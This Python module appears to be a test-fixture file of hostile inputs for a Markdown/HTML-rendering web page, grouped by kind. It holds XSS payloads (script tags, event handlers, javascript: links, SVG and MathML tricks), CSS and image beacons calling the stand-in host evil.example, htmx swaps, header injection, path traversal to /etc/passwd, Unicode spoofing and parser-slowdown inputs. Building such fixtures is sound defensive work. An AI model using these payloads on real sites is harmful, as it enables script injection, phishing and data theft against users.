"""Texts that try to do something on the page that shows them: what a model, a provider or a person might write.

`SHORT` fits anywhere a name does, `LONG` needs a text; both by kind. A payload that would succeed calls `alert`, asks a
host that ends in `evil.example`, or changes the page around it.
"""

from __future__ import annotations

import random
from collections.abc import Sequence

HOST = "evil.example"  # reserved: nobody answers there, and no page of ours may ask

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>import('//evil.example/m.js')</script>",
    "<script\x0c>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "'-alert(1)-'",
    '";alert(1);//',
    "<!--<script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>-->",
    "--!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=//evil.example/o></object><embed src=//evil.example/e>",
    "<portal src=//evil.example/>",
    "<script/src=data:,alert(1)>",
]
EVENTS = [
    "click",
    "error",
    "load",
    "mouseover",
    "focus",
    "blur",
    "input",
    "change",
    "submit",
    "toggle",
    "animationstart",
    "transitionend",
    "pointerenter",
    "pointerrawupdate",
    "beforetoggle",
    "scrollend",
    "wheel",
    "copy",
    "paste",
    "cut",
    "drag",
    "drop",
    "keydown",
    "message",
    "hashchange",
    "begin",
    "end",
    "repeat",
    "unload",
    "pageshow",
    "resize",
    "storage",
    "canplay",
    "loadstart",
    "auxclick",
    "contextmenu",
    "securitypolicyviolation",
]
HANDLERS = [
    *(f"<b on{name}='alert(1)' tabindex=1 autofocus>x</b>" for name in EVENTS),
    "<img src=x onerror=alert(1)>",
    "<img src=x oneonerrorrror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "x onfocus=alert(1) autofocus",
    "<a href='x' onclick='alert(1)'>x</a>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "javascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    "\u2003javascript:alert(1)",
    "javascript://evil.example/%0Aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/accounts/logout/",
    "?stop=1",
    "#run",
    "https:evil",
    "http://",
    "ws://evil.example",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/1",
    "view-source:https://evil.example/",
    "intent://evil.example#Intent;scheme=https;end",
    "mailto:",
    "https://[::1",
    "ht\ntps://evil.example",
]
LINKS = [
    *(f"[click]({address})" for address in ADDRESSES),
    *(f"<a href='{address}'>click</a>" for address in ADDRESSES[:6]),
    "<javascript:alert(1)>",
    "[a <javascript:alert(1)> b](https://e.org)",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://e.org "title\\" onclick=alert(1)")',
    '[x](https://e.org/"onmouseover="alert(1))',
    "[x](<https://e.org/ onclick=alert(1)>)",
    "<https://e.org/\"onclick='alert(1)>",
    "[https://bank.example](https://evil.example/)",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/c.css>",
    "<link rel=preload as=image href=//evil.example/p.png>",
    "<a href=//evil.example ping=//evil.example/p download>x</a>",
]
SVG = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><use href='//evil.example/x.svg#a'/></svg>",
    "<svg><image href='//evil.example/x.png'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style>@import '//evil.example/s.css'</style></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
]
MATHML = [
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#//evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]
CSS = [
    "<style>*{background:url(//evil.example/b)}</style>",
    "<style>@import '//evil.example/s.css';</style>",
    "<style>@font-face{font-family:x;src:url(//evil.example/f)}*{font-family:x}</style>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0;background:red;z-index:9'>x</p>",
    "<p style=\"background-image:url('//evil.example/p')\">x</p>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<b class='visually-hidden'>x</b><b id='run-final'>x</b>",
    "<table background=//evil.example/t><tr><td>x",
    "<body background=//evil.example/b bgcolor=red>",
    "<font size=99 color=red>x</font>",
    "<marquee scrollamount=99>x</marquee>",
    "}body{display:none}",
    "--x:url(//evil.example/v)",
]
IMAGES = [
    "![x](https://evil.example/p.png?secret=1)",
    "![x](//evil.example/p.png)",
    "![x](javascript:alert(1))",
    '![x](https://evil.example/a "onerror=alert(1)")',
    '![" onerror="alert(1)](https://evil.example)',
    "[![x](https://evil.example/1.png)](javascript:alert(1))",
    "![x][i]\n\n[i]: https://evil.example/ref.png",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<img src=https://evil.example/p.png>",
    "<img srcset='https://evil.example/p.png 1x'>",
    "<picture><source srcset=//evil.example/p.png><img></picture>",
    "<video poster=//evil.example/p.png src=//evil.example/v.mp4 autoplay>",
    "<audio src=//evil.example/a.mp3 autoplay>",
    "<input type=image src=//evil.example/p.png>",
    "<track src=//evil.example/t.vtt default>",
]
HTMX_ATTRIBUTES = [
    "hx-get",
    "hx-post",
    "hx-delete",
    "hx-on:click",
    "hx-on::load",
    "hx-trigger=load",
    "hx-swap-oob",
    "hx-vals",
    "hx-headers",
    "hx-ext",
    "hx-include",
    "hx-boost",
    "hx-confirm",
    "hx-disinherit",
    "data-hx-get",
    "data-hx-on--load",
    "ws-connect",
    "ws-send",
    "sse-connect",
    "data-copy-code",
    "data-send",
    "data-letter",
    "data-latest",
    "data-live-status",
    "data-tab",
]
HTMX = [
    *(f"<b {name}='/r/x/stop' hx-trigger='load'>x</b>" for name in HTMX_ATTRIBUTES),
    "<div id=run hx-swap-oob=true>gone</div>",
    "<div id=text-A-md hx-swap-oob=innerHTML>gone</div>",
    "<div hx-swap-oob='outerHTML:body'>gone</div>",
    "<template><div id=live hx-swap-oob=delete></div></template>",
    "<div id=live ws-connect=wss://evil.example/ws></div>",
]
STRUCTURE = [
    "</div></main><h1>Sign in again</h1><main>",
    "</bdi></span></li></ul></section></main></body></html>",
    "</td></tr></table><table><tr><td>",
    "<table><tr><td>x",
    "<p><p><p></div>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)>",
    "<select><option>x",
    "<plaintext>",
    "<button type=submit form=composer>x</button>",
    "<dialog open>Your session has ended</dialog>",
    "<frameset><frame src=//evil.example>",
    "{{ 7|add:7 }}{% csrf_token %}{# x #}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "{{constructor.constructor('alert(1)')()}}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\\<script\\>alert(1)\\</script\\>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%0d%0aSet-Cookie:%20x=1",
    "../../../../etc/passwd",
    '=HYPERLINK("//evil.example")',
]
MARKDOWN = [
    '```"><script>alert(1)</script>\nx\n```',
    "```python\" onclick=\"alert(1)\n'</code></pre><script>alert(1)</script>'\n```",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|:-:|\n| <img src=x onerror=alert(1)> | y |",
    "# <img src=x onerror=alert(1)>",
    "> <iframe src=//evil.example>",
    "- <svg onload=alert(1)>\n- <b hx-get=/x hx-trigger=load>x</b>",
    '<pre><code data-lang="<img src=x onerror=alert(1)>">',
    '~~~<table>"\n<table></table>\n~~~',
    "[<img src=x onerror=alert(1)>](https://e.org)",
    "**<b onclick=alert(1)>**</b>",
    "[toc]: <javascript:alert(1)> '\" onload=alert(1)'\n\n[toc]",
    '| a |\n|:-:" onclick="alert(1)|\n| b |',
    "1. x\n<script>alert(1)</script>\n2. y",
]
INVISIBLE = [
    "\u202egpj.exe\u202c",
    "\u202emirror until the end",
    "user\u2066@\u2069evil.example",
    "\u2067 right to left isolate",
    "\u2068 first strong isolate",
    "\u202d\u202e\u202a\u202b nested",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "\u061c\u200e\u200f marks",
    "שלום עולם and (parentheses) 123",
    "مرحبا بالعالم 1 < 2",
    "\U000e0041\U000e0042 tags",
    "\ufff9annotation\ufffa\ufffb",
    "&#x202e;by reference",
    "&#8203;&#x2066;",
    "\u2028line\u2029paragraph",
    "Z" + "\u0300\u0301\u0302\u0303\u0304" * 40,
    "\ud800 half",
    "nul\x00 bell\x07 escape\x1b[31m",
    "\x85\x9b next line",
    "\u3164\u115f\u1160 fillers",
    "аpple.com and ⅼogin",
    "\u00ad" * 50 + "soft",
    "👩\u200d👩\u200d👧\u200d👦" * 10,
    "﷽" * 20,
    "\U00012031" * 20,
]

SHORT: dict[str, Sequence[str]] = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "links": LINKS,
    "svg": SVG,
    "mathml": MATHML,
    "css": CSS,
    "images": IMAGES,
    "htmx": HTMX,
    "structure": STRUCTURE,
    "markdown": MARKDOWN,
    "invisible": INVISIBLE,
}


# --- by size ----------------------------------------------------------------------------------------


def repeated(unit: str, chars: int) -> str:
    return (unit * (chars // len(unit) + 1))[:chars]


def noise(seed: int, chars: int) -> str:
    """Marks of Markdown and words in any order."""
    chance = random.Random(seed)
    parts = ["*", "**", "_", "~~", "`", "```\n", "[", "](", ")", "![", "<", ">", "> ", "- ", "1. ", "# ", "|", "|-|\n"]
    parts += [
        "\n",
        "\n\n",
        "    ",
        "\t",
        "\\",
        "&amp;",
        "&",
        "word ",
        "https://e.org/",
        "\u202e",
        "x" * 30,
        ": ",
        "---\n",
    ]
    text = ""
    while len(text) < chars:
        text += "".join(chance.choices(parts, k=50))
    return text[:chars]


def long(chars: int) -> dict[str, Sequence[str]]:
    """Payloads of about so many characters: deep, wide, and slow to parse."""
    wide = chars // 400
    return {
        "deep": [
            repeated("> ", chars) + "x",
            (repeated("> ", 200) + "x\n") * (chars // 202),
            repeated("- ", chars) + "x",
            "".join("  " * depth + "- x\n" for depth in range(int(chars**0.5))),
            repeated("> - ", 160) + "x\n" + repeated("a\n", chars),
            repeated("> - > - > - x\n", chars),
            repeated("**_~~", chars) + "x",
            repeated("[", chars) + "x" + repeated("](https://e.org)", chars),
            repeated("<div>", chars),
            repeated("((((", chars),
        ],
        "tables": [
            "|" + "a|" * wide + "\n|" + "-|" * wide + "\n" + ("|" + "b|" * wide + "\n") * 190,
            "|" + "a|" * 1000 + "\n|" + "-|" * 1000 + "\n" + repeated("|\n", chars),
            "|" + "a|" * 59 + "\n|" + "-|" * 59 + "\n" + repeated("|" * 52 + "\n", chars),
            "|a|b|\n|-|-|\n" + repeated("|x|y|\n", chars),
            "|a|\n|-|\n|" + repeated("x" * 200 + " ", chars) + "|",
            repeated("|", chars),
            repeated("|a\n", chars),
            repeated("|a|\n|-|\n|b|\n\n", chars),
        ],
        "definitions": [
            "".join(f"[r{number}]: https://e.org/{number}\n" for number in range(chars // 26)),
            "".join(f"[r{number}]: https://e.org/{number}\n\n[r{number}]\n\n" for number in range(chars // 40)),
            "[a] " * (chars // 8) + "\n\n" + "".join(f"[a{number}]: /x\n" for number in range(chars // 24)),
            "[a]: /x '" + repeated("a\n", chars),
            repeated("[a\n", chars),
            "[" + repeated("a", chars) + "]: https://e.org",
        ],
        "emphasis": [
            repeated(unit, chars)
            for unit in ("*a _b ", "*a **b _c __d ", "***a ", "a* ", "_a_ ", "*a* ", "*", "~~a ", "*a_ ", "**a*b")
        ],
        "emphasis in paragraphs": [
            repeated(repeated(unit, 9_000) + "\n\n", chars)
            for unit in ("*a _b ", "***a ", "*", "~~a ", "`a``", "<a ", "&", "\\")
        ],
        "brackets": [
            repeated(unit, chars)
            for unit in ("[", "[a](", "[a](<", "![a](", "[[a]", "[a](https://e.org) ", "![", "[a][b]", "](", "[\\]")
        ],
        "brackets in paragraphs": [
            repeated(repeated(unit, 9_000) + "\n\n", chars) for unit in ("[", "[a](", "![a](", "[[a]", "](", "[a\\")
        ],
        "many blocks": [
            repeated(unit, chars)
            for unit in (
                "- x\n",
                "- x\n\n",
                "1. x\n",
                "# x\n",
                "---\n\n",
                "a\n=\n",
                "a\n\n",
                "\n",
                "     x\n",
                "<p>\n\n",
            )
        ],
        "code": [
            repeated("```python\nx=1\n```\n", chars),
            "```python\n" + repeated("x = [1,2,3] # hi\n", chars),
            "```\n" + repeated("<b>&amp;\n", chars),
            "```csharp\n" + repeated("a\n", 12_000),
            "```java\n" + repeated(repeated("a[", 390) + "\n", 12_000),
            "```c\n" + "\n" * 12_000,
            "```html\n" + repeated("<?", 390) + "\n" * 100,
            "```bash\n" + repeated("${", 390) + "\n",
            repeated("`", chars),
            repeated("~~~\n", chars),
            "```" + repeated("x", chars),
            repeated(repeated("`a``", 390) + "\n", chars),
        ],
        "lines": [
            repeated("word ", chars),
            repeated("a", chars),
            repeated(" ", chars),
            repeated("\t", chars),
            repeated("a\n", chars) + "===",
            repeated("a\r", chars),
            repeated("<", chars),
            repeated("&", chars),
            repeated("&amp;", chars),
            repeated("\\", chars),
            repeated("\u202ea\u200b", chars),
            repeated("a" + "\u0301" * 200, chars),
            repeated("<https://e.org/a> ", chars),
            repeated("<script>alert(1)</script>", chars),
            repeated("<img src=x onerror=alert(1)>\n", chars),
        ],
        "noise": [noise(seed, chars // 2) for seed in range(12)],
    }


HOSTILE = [payload for payloads in SHORT.values() for payload in payloads]
